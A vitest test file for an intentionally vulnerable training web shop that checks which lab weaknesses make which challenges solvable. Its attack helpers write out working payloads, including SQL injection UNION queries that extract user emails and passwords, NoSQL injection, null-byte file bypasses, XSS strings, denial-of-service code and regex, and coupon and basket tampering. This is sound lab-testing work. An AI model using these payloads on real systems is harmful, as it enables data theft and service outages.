import { readFileSync, writeFileSync } from 'node:fs'
import { afterEach, describe, expect, it } from 'vitest'
import { catalogue, challengeKeys } from '../../../lab/challenges/catalogue.js'
import { iframePayload } from '../../../lab/challenges/rules/payloads.js'
import { honestShopPorts, type ShopPorts } from '../../../lab/shop/ports.js'
import { writeZ85 } from '../../../lab/shop/z85.js'
import { layOver } from '../../../lab/weaknesses/lay-over.js'
import { shopWeaknesses } from '../../../lab/weaknesses/lists/shop.js'
import { weaknesses } from '../../../lab/weaknesses/weaknesses.js'
import { checkOut, couponData } from '../../support/buy.js'
import { type ServedLab, serveLab } from '../../support/serve-lab.js'

const names = shopWeaknesses.map(({ name }) => name)
const ports = Object.keys(honestShopPorts) as (keyof ShopPorts)[]

describe('the decisions of the shop', () => {
  it.each(ports)('%s is taken over by one weakness, and left to its honest half without it', (port) => {
    const takers = weaknesses.filter((weakness) => port in weakness.ports).map(({ name }) => name)
    expect(takers).toHaveLength(1)
    const weak = layOver(weaknesses, { isOpen: () => true, fixed: [] })
    const fixed = layOver(weaknesses, { isOpen: () => true, fixed: takers })
    expect(weak[port]).not.toBe(honestShopPorts[port])
    expect({ ...honestShopPorts, ...fixed }[port]).toBe(honestShopPorts[port])
  })

  it.each(shopWeaknesses)('$name says where it can be met', ({ places }) => {
    expect(places.length).toBeGreaterThan(0)
    for (const { method, path, parameter } of places) {
      expect(['GET', 'POST', 'PUT', 'DELETE']).toContain(method)
      expect([path, parameter]).toEqual([expect.stringMatching(/^\/[\w/:-]+$/), expect.stringMatching(/^[\w-]+$/)])
    }
  })

  it.each(shopWeaknesses)('$name bears the CWE numbers of its file', ({ name, cwe }) => {
    const text = readFileSync(new URL(`../../../lab/weaknesses/${name}.ts`, import.meta.url), 'utf8')
    expect([...text.matchAll(/CWE-(\d+)/g)].map(([, id]) => Number(id))).toEqual(cwe)
  })
})

const details = { paymentId: '5', addressId: '4', deliveryMethodId: '1' }
const tokenOfJim = async (shop: ServedLab) => (await shop.logIn('jim@juice-sh.op', 'ncc-1701')).token
const search = (text: string) => (shop: ServedLab) => shop.get(`/rest/products/search?q=${encodeURIComponent(text)}`)
const visit = (path: string) => (shop: ServedLab) => shop.get(path)
const track = (id: string) => (shop: ServedLab) => shop.get(`/rest/track-order/${encodeURIComponent(id)}`)
const orderLines = (orderLinesData: string) => async (shop: ServedLab) =>
  shop.post('/b2b/v2/orders', { orderLinesData }, { token: await tokenOfJim(shop) })
const addItem = (body: unknown) => async (shop: ServedLab) =>
  shop.post('/api/BasketItems', body, { token: await tokenOfJim(shop) })

async function buyWithdrawn(shop: ServedLab): Promise<void> {
  await addItem({ ProductId: 10, BasketId: '2', quantity: 1 })(shop)
  await checkOut(shop, await tokenOfJim(shop), 2, { orderDetails: details })
}

async function buyLessThanNothing(shop: ServedLab): Promise<void> {
  const token = await tokenOfJim(shop)
  await shop.put('/api/BasketItems/4', { quantity: -100 }, { token })
  await checkOut(shop, token, 2, { orderDetails: details })
}

async function payWithOwnCoupon(shop: ServedLab): Promise<void> {
  const token = await tokenOfJim(shop)
  const [, month, , year] = new Date().toString().split(' ')
  const code = String(writeZ85(`${month?.toUpperCase()}${year?.slice(2)}-80`))
  await shop.put(`/rest/basket/2/coupon/${encodeURIComponent(encodeURIComponent(code))}`, {}, { token })
  await checkOut(shop, token, 2, { orderDetails: details })
}

async function payWithOldCampaign(shop: ServedLab): Promise<void> {
  const wish = { couponData: couponData('WMNSDY2019-1551999600000'), orderDetails: details }
  await checkOut(shop, await tokenOfJim(shop), 2, wish)
}

async function exportOrdersOfAdmin(shop: ServedLab): Promise<void> {
  const [email, password] = ['admun@juice-sh.op', 'figs-and-dates-in-spring']
  await shop.post('/api/Users', { email, password, passwordRepeat: password })
  const { token } = await shop.logIn(email, password)
  await shop.post('/rest/user/data-export', { format: '1' }, { token })
}

async function writeSubtitles({ lab, get }: ServedLab): Promise<void> {
  const folder = lab.disk.path('frontend', 'dist', 'frontend', 'assets', 'public', 'videos')
  writeFileSync(`${folder}/owasp_promo.vtt`, 'x</script><script>alert(`xss`)</script>')
  await get('/promotion')
}

/** Attacks that need no weakness but those that the challenge names. */
const attacks: Readonly<Record<string, (shop: ServedLab) => Promise<unknown>>> = {
  accessLogDisclosureChallenge: visit('/support/logs/access.log'),
  basketAccessChallenge: async (shop) => shop.get('/rest/basket/1', { token: await tokenOfJim(shop) }),
  basketManipulateChallenge: async (shop) => {
    await addItem('{"ProductId":14,"BasketId":"2","quantity":1,"BasketId":"1"}')(shop)
    await shop.put('/api/BasketItems/4', { BasketId: 1 }, { token: await tokenOfJim(shop) })
  },
  christmasSpecialChallenge: buyWithdrawn,
  dataExportChallenge: exportOrdersOfAdmin,
  dbSchemaChallenge: search("qwert')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--"),
  directoryListingChallenge: visit('/ftp/acquisitions.md'),
  easterEggLevelOneChallenge: visit('/ftp/eastere.gg%2500.md'),
  exposedMetricsChallenge: visit('/metrics'),
  forgedCouponChallenge: payWithOwnCoupon,
  forgottenBackupChallenge: visit('/ftp/coupons_2013.md.bak%2500.md'),
  forgottenDevBackupChallenge: visit('/ftp/package.json.bak%2500.md'),
  manipulateClockChallenge: payWithOldCampaign,
  misplacedSignatureFileChallenge: visit('/ftp/suspicious_errors.yml%2500.md'),
  negativeOrderChallenge: buyLessThanNothing,
  noSqlOrdersChallenge: track("' || true || '"),
  nullByteChallenge: visit('/ftp/encrypt.pyc%2500.md'),
  rceChallenge: orderLines('(function dos() { while(true); })()'),
  rceOccupyChallenge: orderLines('/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaa")'),
  redirectChallenge: visit('/redirect?to=https://example.org?x=https://github.com/juice-shop/juice-shop'),
  reflectedXssChallenge: track(iframePayload),
  restfulXssChallenge: (shop) => shop.put('/api/Products/2', { description: iframePayload }),
  unionSqlInjectionChallenge: search("qwert')) union select id,'2','3',email,password,'6','7','8','9' from users--"),
  videoXssChallenge: writeSubtitles,
}

const ofShop = (all: readonly string[]) => all.filter((name) => names.includes(name))

const challenges = challengeKeys.flatMap((key) => {
  const needed = ofShop(catalogue[key].weaknesses)
  const oneOf = ofShop(catalogue[key].anyOf ?? [])
  return needed.length + oneOf.length > 0 ? [{ key, needed, oneOf }] : []
})

/** Sets of weaknesses of which each is enough. */
const waysTo = challenges.flatMap(({ key, needed, oneOf }) =>
  (oneOf.length > 0 ? oneOf : [undefined]).map((one) => ({ key, open: one === undefined ? needed : [...needed, one] })),
)

/** Sets of weaknesses without any of which there is no way left. */
const blocks = challenges.flatMap(({ key, needed, oneOf }) => [
  ...needed.map((name) => ({ key, fix: [name] })),
  ...(oneOf.length > 0 ? [{ key, fix: oneOf }] : []),
])

const bySet = <Case extends { readonly key: string }>(
  cases: readonly Case[],
  setOf: (one: Case) => readonly string[],
) =>
  [...new Set(cases.map((one) => setOf(one).join(' ')))].map((set) => ({
    set,
    keys: cases.filter((one) => setOf(one).join(' ') === set).map(({ key }) => key),
  }))

describe('what a weakness is enough for', () => {
  let shop: ServedLab | undefined
  afterEach(() => shop?.close())

  async function attack(keys: readonly string[], fix: string[]): Promise<readonly string[]> {
    shop = await serveLab({ fix })
    for (const key of keys) await attacks[key]?.(shop)
    return shop.solved().filter((key) => keys.includes(key))
  }

  it('every challenge that needs one is attacked here', () => {
    expect(challenges.map(({ key }) => key).sort()).toEqual(Object.keys(attacks).sort())
  })

  it.each(bySet(waysTo, ({ open }) => open))('nothing of the shop but $set is open: $keys', async ({ set, keys }) => {
    const solved = await attack(
      keys,
      names.filter((name) => !set.split(' ').includes(name)),
    )
    expect(solved).toEqual([...keys].sort((a, b) => solved.indexOf(a) - solved.indexOf(b)))
  })

  it.each(bySet(blocks, ({ fix }) => fix))('without $set: none of $keys', async ({ set, keys }) => {
    expect(await attack(keys, set.split(' '))).toEqual([])
  })
})

describe('a shop without any weakness', () => {
  const code = async (shop: ServedLab) => String(shop.lab.shop.coupons.issue(10))

  it('sells, tells and delivers as ever', async () => {
    const shop = await serveLab({ fix: names })
    const token = await tokenOfJim(shop)
    const [coupon, before] = [await code(shop), await search('eggfruit')(shop)]
    expect(before.json()).toMatchObject({ data: [{ id: 3 }] })
    const line = { ProductId: 3, BasketId: '2', quantity: 2 }
    expect((await shop.post('/api/BasketItems', line, { token })).json()).toMatchObject({ data: line })
    expect((await shop.put('/api/BasketItems/4', { quantity: 1 }, { token })).status).toBe(200)
    const applied = await shop.put(
      `/rest/basket/2/coupon/${encodeURIComponent(encodeURIComponent(coupon))}`,
      {},
      { token },
    )
    expect(applied.json()).toEqual({ discount: 10 })
    const reply = await checkOut(shop, token, 2, { orderDetails: { ...details, paymentId: 'wallet' } })
    const { orderConfirmation } = reply.json<{ orderConfirmation: string }>()
    expect((await shop.get(`/rest/track-order/${orderConfirmation}`)).json()).toMatchObject({
      data: [{ orderId: orderConfirmation, promotionalAmount: '2.30' }],
    })
    expect((await shop.get(`/rest/track-order/${orderConfirmation}`)).text).not.toContain('customerId')
    const history = await shop.get('/rest/order-history', { token })
    expect(history.json<{ data: { orderId: string }[] }>().data.map(({ orderId }) => orderId)).toContain(
      orderConfirmation,
    )
    expect((await shop.get(`/ftp/order_${orderConfirmation}.pdf`)).status).toBe(200)
    expect((await shop.get('/redirect?to=https://github.com/juice-shop/juice-shop')).status).toBe(302)
    expect((await shop.get('/promotion')).text).toContain('-->')
    expect((await orderLines('[{"productId":8,"quantity":500}]')(shop)).status).toBe(200)
    await shop.close()
  })
})
